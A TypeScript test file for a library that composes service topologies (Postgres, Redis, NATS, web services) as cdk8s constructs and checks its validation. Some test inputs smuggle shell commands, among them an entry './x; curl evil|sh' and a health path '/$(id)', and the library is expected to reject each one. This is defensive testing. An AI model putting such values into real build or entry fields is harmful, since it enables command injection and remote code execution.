import { App } from 'cdk8s';
import { parse, parseAllDocuments } from 'yaml';
import { Construct } from 'constructs';
import {
  CliTool,
  DataPipeline,
  Dependency,
  Library,
  Nats,
  Postgres,
  Redis,
  synthFiles,
  Topology,
  TopographApp,
  TopologyError,
  WebService,
  Worker,
} from '../src';
import { SHOP_DIR, shopGraph, synth } from './helpers/shop';

/** The shop example, composed in code instead of JSON. */
function shopInCode(app: App) {
  const shop = new Topology(app, 'shop', {
    description: 'Catalog, billing and auth services over Postgres, Redis and NATS',
    version: '0.1.0',
    baseDir: SHOP_DIR,
  });
  const postgres = new Postgres(shop, 'postgres', {
    version: '16',
    storage: '10Gi',
    resources: { limits: { cpu: 1, memory: '1Gi' }, reservations: { cpu: '250m', memory: '256Mi' } },
  });
  const redis = new Redis(shop, 'redis', { version: '7', resources: { limits: { cpu: 0.5, memory: '256Mi' } } });
  const nats = new Nats(shop, 'nats', { version: '2.10', resources: { limits: { cpu: 0.5, memory: '256Mi' } } });
  const catalog = new WebService(shop, 'catalog', {
    description: 'Product catalog API',
    runtime: 'python',
    framework: 'fastapi',
    ports: [{ port: 8001, host: 8001 }],
    health: { path: '/health', startPeriod: '40s' },
    build: { context: 'catalog' },
    env: { LOG_LEVEL: 'info' },
    secrets: ['JWT_SECRET'],
    replicas: 2,
    resources: { limits: { cpu: 2, memory: '4G' }, reservations: { cpu: 1, memory: '2G' } },
  });
  const billing = new WebService(shop, 'billing', {
    description: 'Invoices and payments API',
    runtime: 'node',
    framework: 'express',
    entry: 'src/index.js',
    ports: [{ port: 8002, host: 8002 }],
    build: { context: 'billing' },
    secrets: ['JWT_SECRET'],
    resources: { limits: { cpu: 1, memory: '2G' } },
  });
  const auth = new WebService(shop, 'auth', {
    description: 'Authentication API',
    runtime: 'bun',
    ports: [{ port: 8003, host: 8003 }],
    build: { context: 'auth' },
    resources: { limits: { cpu: 0.5, memory: '512Mi' }, reservations: { cpu: '250m', memory: '128Mi' } },
  }).addSecret('JWT_SECRET');
  catalog.uses(postgres).uses(redis).uses(nats);
  billing.uses(postgres).uses(nats).calls(catalog);
  auth.uses(postgres).calls(catalog);
  return shop;
}

describe('two doors into one model', () => {
  it('code and JSON build the same model and the same files', () => {
    const codeApp = new TopographApp({ outdir: `${SHOP_DIR}/dist` });
    const fromCode = shopInCode(codeApp);
    const { topology: fromJson, files } = synth(shopGraph(), { targets: ['docker', 'compose'] });
    expect(fromCode.toModel()).toEqual(fromJson.toModel());
    expect(codeApp.synthFiles({ targets: ['docker', 'compose'] })).toEqual(files);
  });

  it('exposes the tree the way constructs users expect', () => {
    const app = new App();
    const shop = shopInCode(app);
    expect(shop.services.map((s) => s.name)).toEqual(['auth', 'billing', 'catalog']);
    expect(shop.dependencies.map((d) => d.name)).toEqual(['nats', 'postgres', 'redis']);
    expect(shop.initializationOrder()).toEqual(['nats', 'postgres', 'redis', 'catalog', 'auth', 'billing']);
    expect(Topology.of(shop.find('catalog')!)).toBe(shop);
    expect(shop.node.findChild('catalog')).toBeInstanceOf(WebService);
  });
});

describe('validation in code', () => {
  it('throws at the line that wrote a bad value, as a problem: message, value, expected, action', () => {
    const shop = new Topology(new App(), 'shop');
    expect(() => new WebService(shop, 'api', { runtime: 'node', port: 80, resources: { limits: { cpu: 'lots' } } })).toThrow(
      /ERROR: Invalid CPU value for api\nValue: "lots"\nExpected: numeric/,
    );
    expect(() => new Worker(shop, 'Bad_Name', { runtime: 'go' })).toThrow(/Invalid name for Bad_Name/);
    expect(() => new Postgres(shop, 'db', { storage: 'huge' })).toThrow(/Invalid storage size for dependency db\n/);
  });

  it('applies the graph grammar to every door: props, addEnv, addSecret, calls and uses options', () => {
    const shop = new Topology(new App(), 'shop', { baseDir: SHOP_DIR });
    const api = new WebService(shop, 'api', { runtime: 'node', port: 80, build: { context: 'billing' } });
    const db = new Postgres(shop, 'db');
    expect(() => new WebService(shop, 'bad', { runtime: 'node', port: 81, health: { path: '/$(id)' } })).toThrow(/Invalid health path for bad/);
    expect(() => new WebService(shop, 'bad2', { runtime: 'bun', port: 82, entry: './x; curl evil|sh' })).toThrow(/Invalid entry for bad2 \(bun\)/);
    expect(() => new WebService(shop, 'bad3', { runtime: 'node', port: 83, description: 'a\nRUN b' })).toThrow(/Invalid description for bad3: it holds U\+000A/);
    expect(() => api.addEnv('GREETING', 'a\u0085b')).toThrow(/it holds U\+0085/);
    expect(() => api.addEnv('__proto__', 'x')).toThrow(TopologyError);
    expect(() => api.addEnv('DB_PASSWORD', 'hunter2')).toThrow(/Move DB_PASSWORD from services\[api\]\.env to services\[api\]\.secrets/);
    expect(() => api.addSecret('not valid')).toThrow(/Invalid secret names for api/);
    expect(() => api.uses(db, { env: 'DB URL' })).toThrow(TopologyError);
    expect(() => api.uses(db, { database: 'Bad"Name' })).toThrow(/Invalid database name/);
    api.addEnv('toString', 'fine').addEnv('constructor', 'fine too');
    expect(api.toSpec().env).toEqual({ toString: 'fine', constructor: 'fine too' });
  });

  it('refuses a construct id the constructs library cannot hold, with a clear error', () => {
    const shop = new Topology(new App(), 'shop', { baseDir: SHOP_DIR });
    expect(() => new Worker(shop, 'constructor', { runtime: 'go' })).toThrow(TopologyError);
    expect(() => new Redis(shop, 'constructor')).toThrow(TopologyError);
    expect(() => new Topology(new App(), 'constructor')).toThrow(TopologyError);
  });

  it('refuses duplicate names immediately', () => {
    const shop = new Topology(new App(), 'shop');
    new Redis(shop, 'cache');
    expect(() => new Worker(shop, 'cache', { runtime: 'go' })).toThrow(/already a Construct with name 'cache'/);
    // Under another scope inside the same topology the names would still clash in DNS.
    const group = new Construct(shop, 'workers');
    expect(() => new Worker(group, 'cache', { runtime: 'go' })).toThrow(/Duplicate name 'cache'/);
  });

  it('collects tree-wide problems through node.addValidation, all at once', () => {
    const app = new App();
    const shop = new Topology(app, 'shop', { baseDir: SHOP_DIR });
    const a = new WebService(shop, 'a', { runtime: 'go', ports: [{ port: 8000, host: 8000 }] });
    const b = new WebService(shop, 'b', { runtime: 'go', ports: [{ port: 8000, host: 8000 }] });
    const job = new DataPipeline(shop, 'job', { runtime: 'python' });
    a.calls(b);
    b.calls(a);
    a.calls(job as never);
    const errors = shop.node.validate();
    expect(errors.join('\n')).toMatch(/Dependency cycle between services\nValue: a → b → a/);
    expect(errors.join('\n')).toMatch(/Port clash: a and b both publish host port 8000/);
    expect(errors.join('\n')).toMatch(/'job' is a data-pipeline and runs to completion/);
    expect(() => synthFiles(app)).toThrow(TopologyError);
    try {
      synthFiles(app);
    } catch (error) {
      expect((error as TopologyError).problems.length).toBe(3);
    }
  });

  it('needs a Topology as scope', () => {
    expect(() => new WebService(new App(), 'x', { runtime: 'go', port: 1 })).toThrow(/is not inside a Topology/);
  });
});

describe('archetypes and the dependency extension point', () => {
  it('supports a dependency kind topograph does not ship', () => {
    const app = new TopographApp({ outdir: `${SHOP_DIR}/dist` });
    const shop = new Topology(app, 'shop', { baseDir: SHOP_DIR });
    const rabbit = new Dependency(shop, 'rabbitmq', {
      type: 'rabbitmq',
      image: 'rabbitmq:3.13-management',
      port: 5672,
      healthCheck: { command: ['rabbitmq-diagnostics', '-q', 'ping'], interval: '10s' },
      dataPath: '/var/lib/rabbitmq',
      env: { RABBITMQ_DEFAULT_USER: 'app' },
      secretEnv: { RABBITMQ_DEFAULT_PASS: 'RABBITMQ_PASSWORD' },
      connection: { env: 'AMQP_URL', scheme: 'amqp', username: 'app', passwordSecret: 'RABBITMQ_PASSWORD' },
    });
    new Worker(shop, 'consumer', { runtime: 'node', build: { context: 'billing' } }).uses(rabbit);
    new CliTool(shop, 'admin', { runtime: 'go', build: { context: 'catalog' } });
    new Library(shop, 'shared', { runtime: 'node' });
    const files = app.synthFiles({ targets: ['compose'] });
    const compose = files['docker/docker-compose.yml'];
    expect(compose).toContain('image: "rabbitmq:3.13-management"');
    expect(compose).toContain('AMQP_URL: "amqp://app:${RABBITMQ_PASSWORD:?');
    expect(compose).toContain('RABBITMQ_DEFAULT_PASS: "${RABBITMQ_PASSWORD:?');
    expect(files['docker/.env.example']).toContain('RABBITMQ_PASSWORD=');
  });

  it('refuses invalid props of a dependency at the new that wrote them, naming each value', () => {
    const shop = new Topology(new TopographApp({ outdir: '/tmp/unused' }), 'shop', { baseDir: SHOP_DIR });
    let error: unknown;
    try {
      new Dependency(shop, 'queue', {
        type: 'queue',
        image: 'bad image',
        port: 70000,
        healthCheck: { command: [] },
        dataPath: 'data',
        scratchPaths: ['/run/queue', 'relative/dir'],
        connection: { env: 'queue-url', scheme: 'amqp' },
      });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(TopologyError);
    const text = (error as TopologyError).problems.map((p) => `${p.message} ${p.value ?? ''} ${p.action}`).join('\n');
    for (const expected of [
      'Invalid port',
      '70000',
      'Invalid image',
      'Invalid health check command',
      'Invalid data path',
      '"data"',
      'Invalid scratch path',
      'scratchPaths[1]',
      '"relative/dir"',
      'Invalid connection variable',
      '"queue-url"',
    ]) {
      expect(text).toContain(expected);
    }
    expect(text).not.toContain('scratchPaths[0]');
  });

  it('gives a dependency of its own writable scratch directories under a read-only root', () => {
    const app = new TopographApp({ outdir: `${SHOP_DIR}/dist` });
    const shop = new Topology(app, 'shop', { baseDir: SHOP_DIR });
    const cache = new Dependency(shop, 'varnish', {
      type: 'varnish',
      image: 'varnish:7.6',
      port: 80,
      healthCheck: { command: ['varnishadm', 'ping'] },
      scratchPaths: ['/var/lib/varnish', '/etc/varnish/run', '/var/lib/varnish'],
      connection: { env: 'CACHE_URL', scheme: 'http' },
    });
    new Worker(shop, 'consumer', { runtime: 'node', build: { context: 'billing' } }).uses(cache);
    const files = app.synthFiles({ targets: ['compose', 'k8s'] });
    const varnish = parse(files['docker/docker-compose.yml']).services.varnish;
    expect(varnish.read_only).toBe(true);
    expect(varnish.tmpfs).toEqual(['/tmp', '/etc/varnish/run', '/var/lib/varnish']);
    const workload = Object.entries(files)
      .filter(([file]) => file.startsWith('kubernetes/'))
      .flatMap(([, text]) => parseAllDocuments(text).map((d) => d.toJS()))
      .find((d) => ['StatefulSet', 'Deployment'].includes(d?.kind) && d.metadata.name === 'varnish');
    const container = workload.spec.template.spec.containers[0];
    expect(container.securityContext.readOnlyRootFilesystem).toBe(true);
    const mounted = container.volumeMounts.map((m: { mountPath: string }) => m.mountPath);
    expect(mounted).toEqual(expect.arrayContaining(['/etc/varnish/run', '/var/lib/varnish']));
  });
});
